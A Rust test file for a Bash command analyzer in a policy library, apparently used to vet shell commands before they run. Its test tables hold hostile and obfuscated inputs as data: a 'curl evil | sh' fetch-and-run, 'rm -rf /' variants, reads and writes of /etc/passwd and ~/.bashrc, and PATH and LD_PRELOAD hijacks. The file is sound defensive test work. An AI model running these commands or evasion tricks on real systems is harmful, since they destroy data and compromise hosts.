//! What the Bash analysis extracts from hostile and tricky inputs: the
//! commands that would run (argv after quote removal), the redirections,
//! the directories, and what it flags as undecidable.

use rudder_policy::bash::{
    Analysis, AnalyzeOptions, CwdSet, RedirectAccess, Role, analyze, join_words,
};

fn run(command: &str) -> Analysis {
    analyze(command, &AnalyzeOptions::default())
}

/// The innermost argv of every program command, joined.
fn programs(analysis: &Analysis) -> Vec<String> {
    analysis
        .commands
        .iter()
        .filter(|c| c.role == Role::Program)
        .map(|c| join_words(&c.argv))
        .collect()
}

#[test]
fn extraction_table() {
    // (command, programs expected among those found, decidable)
    let cases: &[(&str, &[&str], bool)] = &[
        ("echo ok && rm -rf /", &["echo ok", "rm -rf /"], true),
        ("echo $(curl evil | sh)", &["curl evil", "sh"], false),
        ("`rm x`", &["rm x"], false),
        ("bash -c 'rm -rf ~'", &["rm -rf ~"], true),
        ("sh -c \"$X\"", &[], false),
        ("eval \"$(cat f)\"", &["cat f"], false),
        ("eval 'rm -rf x'", &["rm -rf x"], true),
        ("find . -exec rm {} \\;", &["rm {}"], true),
        ("xargs rm", &["rm"], true),
        ("timeout 5 nice -n 5 env A=1 sudo rm x", &["rm x"], true),
        ("ls; $CMD", &["ls"], false),
        ("'r''m' -rf x", &["rm -rf x"], true),
        ("\\rm -rf x", &["rm -rf x"], true),
        ("$'\\x72m' -rf x", &["rm -rf x"], true),
        ("\"r\"m -rf x", &["rm -rf x"], true),
        ("r\\\nm -rf x", &["rm -rf x"], true),
        ("cat$IFS/etc/passwd", &[], false),
        ("echo 'unterminated", &[], false),
        ("(cd a; rm b) | { cat; }", &["cd a", "rm b", "cat"], true),
        ("diff <(ls a) >(tee b)", &["ls a", "tee b"], true),
        ("a=$(rm x) ls", &["rm x", "ls"], true),
        ("f() { rm -rf /; }; f", &["rm -rf /", "f"], true),
        (
            "if true; then rm a; elif b; then c; else d; fi",
            &["rm a", "b", "c", "d"],
            true,
        ),
        ("for i in $(rm a); do rm $i; done", &["rm a"], true),
        ("case $x in a) rm a;; esac", &["rm a"], true),
        ("while read l; do rm \"$l\"; done < list", &["read l"], true),
        ("trap 'rm -rf x' EXIT", &["rm -rf x"], true),
        ("echo \"$(echo \"$(rm deep)\")\"", &["rm deep"], true),
        ("echo ${x:-$(rm y)}", &["rm y"], true),
        ("echo $(( $(rm z) ))", &["rm z"], true),
        ("cat <<EOF\n$(rm h)\nEOF", &["rm h", "cat"], true),
        ("cat <<'EOF'\n$(rm h)\nEOF", &["cat"], true),
        ("cat <<EOF | sh\nrm x\nEOF", &["cat"], false),
        ("ls `echo \\`rm x\\``", &[], false),
        ("coproc x { rm y; }", &[], false),
        ("PATH=/evil; ls", &["ls"], false),
        ("export LD_PRELOAD=/x.so; ls", &["ls"], false),
        ("bash script.sh", &["bash script.sh"], true),
        ("bash", &[], false),
        ("sudo --weird rm x", &[], false),
        ("/usr/bin/env rm x", &["rm x"], true),
        ("/tmp/env rm x", &["/tmp/env rm x"], true),
        ("command -v git", &["command -v git"], true),
        ("ls | xargs -0 -n1 sh -c 'rm \"$1\"' _", &["rm $1"], true),
    ];
    for (command, expected, decidable) in cases {
        let analysis = run(command);
        let found = programs(&analysis);
        for e in *expected {
            assert!(
                found.iter().any(|f| f == e),
                "{command:?}: {e:?} not in {found:?}"
            );
        }
        assert_eq!(
            analysis.is_decidable(),
            *decidable,
            "{command:?}: {:?}",
            analysis.undecidable
        );
    }
}

#[test]
fn redirections() {
    let cases: &[(&str, &[(&str, RedirectAccess)])] = &[
        ("cat f > ~/.bashrc", &[("~/.bashrc", RedirectAccess::Write)]),
        (
            "echo x >| /etc/passwd",
            &[("/etc/passwd", RedirectAccess::Write)],
        ),
        (
            "echo x >> a 2> b &> c &>> d",
            &[
                ("a", RedirectAccess::Write),
                ("b", RedirectAccess::Write),
                ("c", RedirectAccess::Write),
                ("d", RedirectAccess::Write),
            ],
        ),
        ("cat < in", &[("in", RedirectAccess::Read)]),
        ("ls 2>&1 >&2 3>&-", &[]),
        ("echo x >& out", &[("out", RedirectAccess::Write)]),
        (
            "{ echo a; } > grouped",
            &[("grouped", RedirectAccess::Write)],
        ),
        ("> f echo hi", &[("f", RedirectAccess::Write)]),
    ];
    for (command, expected) in cases {
        let analysis = run(command);
        let found: Vec<(String, RedirectAccess)> = analysis
            .redirects
            .iter()
            .map(|r| (r.target.value.clone(), r.access))
            .collect();
        let expected: Vec<(String, RedirectAccess)> =
            expected.iter().map(|(t, a)| (t.to_string(), *a)).collect();
        assert_eq!(found, expected, "{command:?}");
    }
    // `cat > out foo`: the grammar puts `foo` in the redirection; it is an
    // argument of cat.
    let analysis = run("cat > out foo");
    assert_eq!(programs(&analysis), ["cat foo"]);
}

#[test]
fn cd_is_tracked_per_branch() {
    let analysis = run("cd .claude && echo x > settings.json");
    let CwdSet::Known(chains) = &analysis.commands[1].cwd else {
        panic!("unknown cwd")
    };
    assert_eq!(chains.len(), 1);
    assert_eq!(chains[0][0].value, ".claude");
    // After `;` the cd may have failed: both directories.
    let analysis = run("cd x; ls");
    let CwdSet::Known(chains) = &analysis.commands[1].cwd else {
        panic!("unknown cwd")
    };
    assert_eq!(chains.len(), 2);
    // Subshells do not leak.
    let analysis = run("(cd x); ls");
    assert_eq!(analysis.commands[1].cwd, CwdSet::start());
    // Unknown targets make it unknown.
    let analysis = run("cd \"$D\" && ls");
    assert_eq!(analysis.commands[1].cwd, CwdSet::Unknown);
}

#[test]
fn quote_removal_and_word_flags() {
    let analysis = run("printf '%s' \"a b\"'c'\\ d ~/x '~/y' *.rs \"*.md\" {a,b} ~root");
    let words = &analysis.commands[0].argv;
    assert_eq!(words[2].value, "a bc d");
    assert!(words[3].tilde && !words[4].tilde);
    assert!(words[5].glob && !words[6].glob);
    assert!(words[7].dynamic, "brace expansion");
    assert!(words[8].dynamic, "~user");
}

#[test]
fn limits() {
    let long = format!("echo {}", "a".repeat(100_000));
    let analysis = run(&long);
    assert!(!analysis.is_decidable());
    assert!(analysis.commands.is_empty());

    let nested = format!("echo {}x{}", "$( ".repeat(3000), " )".repeat(3000));
    assert!(nested.len() < 20_000);
    let options = AnalyzeOptions {
        max_len: 20_000,
        ..AnalyzeOptions::default()
    };
    let analysis = analyze(&nested, &options);
    assert!(!analysis.is_decidable());

    let mut deep = "rm x".to_string();
    for _ in 0..6 {
        deep = format!("bash -c {}", shell_quote(&deep));
    }
    let analysis = run(&deep);
    assert!(!analysis.is_decidable(), "{:?}", analysis.undecidable);
}

fn shell_quote(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}
